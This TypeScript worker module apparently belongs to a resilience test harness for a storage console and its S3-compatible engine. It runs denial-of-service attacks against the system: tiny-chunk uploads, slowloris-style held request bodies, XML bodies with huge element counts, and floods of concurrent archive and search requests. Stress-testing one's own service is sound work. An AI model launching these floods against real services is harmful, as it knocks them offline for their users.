import { createHash } from 'node:crypto'
import { once } from 'node:events'
import { connect, type Socket } from 'node:net'
import { constants, setPriority } from 'node:os'
import { parentPort, workerData } from 'node:worker_threads'
import aws4 from 'aws4'
import { type Cut, tinyChunksRequest } from '../engine/tiny-chunks.ts'
import { signHeaders } from '../support/sign-s3.ts'

/** What the attacker knows: where the console and its engine are, a session, and the keys of its account. */
export type Knowledge = {
  url: string
  s3Url: string
  cookie: string
  keys: { accessKey: string; secretKey: string }
  bucket: string
  attack: Attack
}

export type Attack =
  | { kind: 'tiny chunks'; cut: Cut; bytes: number }
  | { kind: 'held bodies'; at: 'console' | 'S3'; count: number; bytes: number }
  | { kind: 'many elements'; bytes: number; complete: boolean }
  /** Archives asked for at once; `leave`: the connection ends after so many ms. */
  | { kind: 'archives'; count: number; folders: readonly string[]; leave?: number }
  /** Searches in all buckets at once. */
  | { kind: 'searches'; count: number; query: string }

const MiB = 1024 ** 2
const known = workerData as Knowledge

function open(url: string): Socket {
  const { hostname, port } = new URL(url)
  return connect(Number(port), hostname).on('error', () => undefined)
}

/** Sends the bytes; gives the status line of the answer, or what became of the connection, which ends after `leave` ms. */
async function exchange(url: string, request: Buffer, leave?: number): Promise<string> {
  const socket = open(url)
  await once(socket, 'connect')
  if (leave !== undefined) setTimeout(() => socket.destroy(), leave)
  socket.write(request)
  let answer = ''
  socket.on('data', piece => {
    answer += String(piece)
    if (answer.includes('\r\n')) socket.destroy()
  })
  await once(socket, 'close')
  return answer.split('\r\n')[0] || 'closed'
}

function tinyChunks(cut: Cut, bytes: number): Promise<string> {
  const path = `/${known.bucket}/tiny-chunks`
  const { host } = new URL(known.s3Url)
  const body = Buffer.alloc(bytes, 'x')
  return exchange(
    known.s3Url,
    tinyChunksRequest({ host, path, region: 'us-east-1', keys: known.keys, body, cut }),
  )
}

function headOf(at: 'console' | 'S3', bytes: number): { url: string; lines: string[] } {
  if (at === 'S3') {
    const { host } = new URL(known.s3Url)
    const target = { host, path: `/${known.bucket}`, query: 'delete=', region: 'us-east-1' }
    const headers = { 'content-length': String(bytes), 'x-amz-checksum-crc32': 'AAAAAA==' }
    const signing = { ...target, method: 'POST', keys: known.keys, payloadHash: 'UNSIGNED-PAYLOAD', headers }
    const lines = Object.entries(signHeaders(signing)).map(([name, value]) => `${name}: ${value}`)
    return { url: known.s3Url, lines: [`POST /${known.bucket}?delete= HTTP/1.1`, ...lines] }
  }
  const { host, origin } = new URL(known.url)
  return {
    url: known.url,
    lines: [
      'DELETE /api/objects/delete HTTP/1.1',
      `host: ${host}`,
      `origin: ${origin}`,
      `cookie: ${known.cookie}`,
      'content-type: application/json',
      `content-length: ${bytes}`,
    ],
  }
}

/** Lists of keys to delete, each without its last byte, sent until each is whole but for that or refused. */
async function heldBodies(at: 'console' | 'S3', count: number, bytes: number): Promise<string> {
  const { url, lines } = headOf(at, bytes)
  const block = Buffer.alloc(MiB, ' ')
  const sockets: Socket[] = []
  const ends: string[] = []
  await Promise.all(
    Array.from({ length: count }, async () => {
      const socket = open(url)
      sockets.push(socket)
      let refused: string | undefined
      const over = new Promise<void>(resolve => {
        socket.once('data', data => {
          refused = String(data).split('\r\n')[0]
          resolve()
        })
        socket.once('close', () => {
          refused ??= 'closed'
          resolve()
        })
      })
      socket.write(`${lines.join('\r\n')}\r\n\r\n`)
      for (let left = bytes - 1; left > 0 && refused === undefined; ) {
        const piece = block.subarray(0, Math.min(left, block.length))
        left -= piece.length
        if (!socket.write(piece)) await Promise.race([once(socket, 'drain').catch(() => undefined), over])
      }
      ends.push(refused ?? 'held')
    }),
  )
  for (const socket of sockets) socket.destroy()
  return counted(ends)
}

async function manyElements(bytes: number, complete: boolean): Promise<string> {
  const name = complete ? 'CompleteMultipartUpload' : 'Delete'
  const inner = '<a/>'.repeat(Math.floor((bytes - 2 * name.length - 5) / 4))
  const { host } = new URL(known.s3Url)
  const body = `<${name}>${inner}</${name}>`
  const signed = aws4.sign(
    {
      service: 's3',
      region: 'us-east-1',
      method: 'POST',
      host,
      path: complete ? `/${known.bucket}/key?uploadId=none` : `/${known.bucket}?delete`,
      headers: { 'content-md5': createHash('md5').update(body).digest('base64') },
      body,
    },
    { accessKeyId: known.keys.accessKey, secretAccessKey: known.keys.secretKey },
  )
  const lines = Object.entries(signed.headers).map(([header, value]) => `${header}: ${value}`)
  return exchange(
    known.s3Url,
    Buffer.from(`POST ${signed.path} HTTP/1.1\r\n${lines.join('\r\n')}\r\n\r\n${signed.body}`),
  )
}

/** Posts the body to the API so often at once; the connections end after `leave` ms. */
async function posts(count: number, path: string, of: object, leave?: number): Promise<string> {
  const { host, origin } = new URL(known.url)
  const body = JSON.stringify(of)
  const lines = [
    `POST /api${path} HTTP/1.1`,
    `host: ${host}`,
    `origin: ${origin}`,
    `cookie: ${known.cookie}`,
    'content-type: application/json',
    `content-length: ${Buffer.byteLength(body)}`,
  ]
  const request = Buffer.from(`${lines.join('\r\n')}\r\n\r\n${body}`)
  const ends = await Promise.all(Array.from({ length: count }, () => exchange(known.url, request, leave)))
  return counted(ends)
}

const counted = (ends: readonly string[]) =>
  Object.entries(Object.groupBy(ends, end => end))
    .map(([end, all = []]) => `${all.length} × ${end}`)
    .join(', ')

// An attacker has a machine of its own: this thread yields the cores to the console and the loads.
setPriority(constants.priority.PRIORITY_LOW)
const { attack, bucket } = known
const outcome =
  attack.kind === 'tiny chunks'
    ? await tinyChunks(attack.cut, attack.bytes)
    : attack.kind === 'held bodies'
      ? await heldBodies(attack.at, attack.count, attack.bytes)
      : attack.kind === 'archives'
        ? await posts(attack.count, '/objects/zip', { bucket, folders: attack.folders }, attack.leave)
        : attack.kind === 'searches'
          ? await posts(attack.count, '/objects/search', { query: attack.query })
          : await manyElements(attack.bytes, attack.complete)
parentPort?.postMessage(outcome)
